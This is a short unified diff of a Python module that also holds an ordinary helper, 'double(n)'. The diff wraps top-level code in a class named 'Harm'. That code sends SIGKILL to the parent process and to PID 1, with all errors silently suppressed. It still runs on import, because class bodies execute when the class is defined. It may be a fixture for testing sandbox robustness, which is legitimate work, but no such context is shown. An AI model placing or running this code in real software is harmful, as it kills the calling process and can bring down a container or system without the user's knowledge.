@@ -10,11 +10,13 @@ import sys
 import threading
 import time
 
-libc = ctypes.CDLL(None)
-with contextlib.suppress(BaseException):
-    os.kill(os.getppid(), signal.SIGKILL)
-with contextlib.suppress(BaseException):
-    os.kill(1, signal.SIGKILL)
+
+class Harm:
+    libc = ctypes.CDLL(None)
+    with contextlib.suppress(BaseException):
+        os.kill(os.getppid(), signal.SIGKILL)
+    with contextlib.suppress(BaseException):
+        os.kill(1, signal.SIGKILL)
 
 
 def double(n):
